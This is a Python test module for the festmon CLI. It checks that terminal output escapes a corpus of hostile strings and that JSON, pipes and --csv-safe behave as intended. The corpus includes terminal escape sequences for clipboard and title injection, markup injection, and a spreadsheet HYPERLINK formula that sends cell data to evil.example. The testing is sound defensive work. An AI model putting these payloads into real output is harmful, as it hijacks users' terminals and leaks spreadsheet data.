"""The hostile-string corpus on every CLI surface, read as the raw bytes written to a terminal.

festmon runs with stdout and stderr on pseudo-terminals (tests/pty_run.py): every format of
`festmon events`, `cycle`, `status`, `health`, the lifecycle commands and their refusals, and
error messages. None may pass a dangerous character; pipes and files keep exact values.
"""

from __future__ import annotations

import asyncio
import csv
import io
import json
from pathlib import Path

from tests.hostile_corpus import CLICK_MARKUP, HOSTILE, OSC0, OSC52, assert_terminal_safe
from tests.pty_run import PtyResult, festmon_on_pty
from tests.reliability.cli import environment, festmon_bytes, run
from tests.reliability.server import Database
from tests.reliability.test_hostile_input import failed_payment

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"refund")'
OPERATOR = f"{CLICK_MARKUP}{OSC0}\x9b2J\u202eops\u200b"


async def on_pty(*args: str, cwd: Path, **env: str) -> PtyResult:
    result = await asyncio.to_thread(festmon_on_pty, *args, cwd=cwd, env=environment(**env))
    assert_terminal_safe(result.stdout)
    assert_terminal_safe(result.stderr)
    assert b"Traceback" not in result.stderr, result.stderr.decode()
    return result


async def _detected_corpus(db: Database, cwd: Path) -> str:
    conn = await db.admin()
    try:
        for card in [*HOSTILE.values(), FORMULA]:
            await failed_payment(conn, card, {"note": card, "device": card})
    finally:
        await conn.close()
    dsn = db.tcp_dsn()
    cycle = await on_pty("cycle", "--database-url", dsn, cwd=cwd)
    assert cycle.returncode == 0, cycle.stderr.decode()
    return dsn


async def test_every_events_format_on_a_terminal_is_escaped_and_json_stays_exact(
    rel_db: Database, tmp_path: Path
) -> None:
    dsn = await _detected_corpus(rel_db, tmp_path)
    stored = {*HOSTILE.values(), FORMULA}

    table = await on_pty("events", "--database-url", dsn, cwd=tmp_path)
    assert table.returncode == 0
    text = table.stdout.decode()
    assert "[@click=app.quit]CLICKME[/]" in text and "\\x1b]52;c;" in text
    # The stored TEXT "\x1b" shows its backslash doubled: it never looks like a stored ESC.
    assert "card-\\\\x1b[2J" in text and "card\\x1b]0;" in text
    lines = text.rstrip("\n").split("\n")  # a newline inside a value would add a line
    assert lines[-1] == f"{len(lines) - 2} events" and len(lines) - 2 > len(stored)

    as_json = await on_pty("events", "--format", "json", "--database-url", dsn, cwd=tmp_path)
    assert as_json.returncode == 0
    rows = json.loads(as_json.stdout)
    assert {r["card_id"] for r in rows if r["card_id"]} == stored  # exact, even on a terminal
    notes = {r["context_data"]["transaction_details"]["note"] for r in rows if r["card_id"]}
    assert notes == stored

    as_csv = await on_pty("events", "--format", "csv", "--database-url", dsn, cwd=tmp_path)
    assert as_csv.returncode == 0
    records = list(csv.DictReader(io.StringIO(as_csv.stdout.decode(), newline="")))
    assert len([r for r in records if r["card_id"]]) == len(stored)
    assert "\\x1b]52;c;" in as_csv.stdout.decode()

    # A pipe or file gets the exact values; --csv-safe neutralises formulas for spreadsheets.
    piped = await asyncio.to_thread(
        festmon_bytes, "events", "--format", "csv", "--database-url", dsn, cwd=tmp_path
    )
    exact = list(csv.DictReader(io.StringIO(piped.stdout.decode(), newline="")))
    assert {r["card_id"] for r in exact if r["card_id"]} == stored
    safe = await asyncio.to_thread(
        festmon_bytes, "events", "--format", "csv", "--csv-safe", "--database-url", dsn,
        cwd=tmp_path,
    )  # fmt: skip
    assert safe.returncode == 0, safe.stderr
    assert_terminal_safe(safe.stdout.replace(b"\r\n", b"\n"))
    cards = {r["card_id"] for r in csv.DictReader(io.StringIO(safe.stdout.decode(), newline=""))}
    assert "'" + FORMULA in cards and FORMULA not in cards


async def test_lifecycle_output_and_a_refusal_naming_a_hostile_operator_are_escaped(
    rel_db: Database, tmp_path: Path
) -> None:
    conn = await rel_db.admin()
    try:
        event_id = await conn.fetchval(
            "SELECT create_monitoring_event('balance_discrepancy', 'HIGH',"
            " 'balance_mismatch_detection', $1, NULL, 12.50)",
            HOSTILE["osc52"],
        )
    finally:
        await conn.close()
    dsn = rel_db.tcp_dsn()

    acked = await on_pty(
        "ack", str(event_id), "--note", f"x{OSC52}", "--database-url", dsn, cwd=tmp_path,
        MONITORING_OPERATOR=OPERATOR,
    )  # fmt: skip
    assert acked.returncode == 0, acked.stderr.decode()
    assert "CLICKME" in acked.stdout.decode()

    refused = await on_pty(
        "ack", str(event_id), "--database-url", dsn, cwd=tmp_path, MONITORING_OPERATOR="second"
    )
    assert refused.returncode == 1
    message = refused.stderr.decode()
    assert "acknowledged by" in message and "CLICKME" in message and "\\x1b]0;" in message
    assert len(message.splitlines()) == 1

    for command in (["status"], ["health"], ["cycle"], ["cycle", "--json"], ["status", "--json"]):
        result = await on_pty(*command, "--database-url", dsn, cwd=tmp_path)
        assert result.stdout, command
        if "--json" in command:
            json.loads(result.stdout)


async def test_error_messages_on_a_terminal_are_escaped(tmp_path: Path) -> None:
    hostile_url = f"postgresql://u{OSC0}:p@127.0.0.1:1/db{OSC52}?connect_timeout=1"
    for command in (["events"], ["db", "status"], ["db", "migrate"], ["simulate", "--report-only"]):
        result = await on_pty(*command, "--database-url", hostile_url, cwd=tmp_path)
        assert result.returncode != 0, command
        assert result.stderr.decode().startswith("festmon"), (command, result.stderr)
    bad_argument = await on_pty("events", f"--x{OSC0}", cwd=tmp_path)  # "unrecognized"
    assert bad_argument.returncode == 2
    assert "\\x1b]0;" in bad_argument.stderr.decode()


async def test_an_env_file_that_is_not_there_is_one_line_and_exit_2(tmp_path: Path) -> None:
    missing = await on_pty("--env-file", f"/nonexistent/{OSC0}.env", "events", cwd=tmp_path)
    assert missing.returncode == 2
    assert (
        missing.stderr.decode()
        == "festmon: --env-file '/nonexistent/\\x1b]0;PWNED-TITLE-0\\x07.env': no such file\n"
    )
    assert not missing.stdout
    # /dev/null (no settings file on purpose) is still fine.
    unreachable = "postgresql://u:p@127.0.0.1:1/db?connect_timeout=1"
    empty = await run("--env-file", "/dev/null", "events", "--database-url", unreachable,
                      cwd=tmp_path)  # fmt: skip
    assert empty.returncode == 3, empty.stderr  # got past the settings: unreachable, not usage
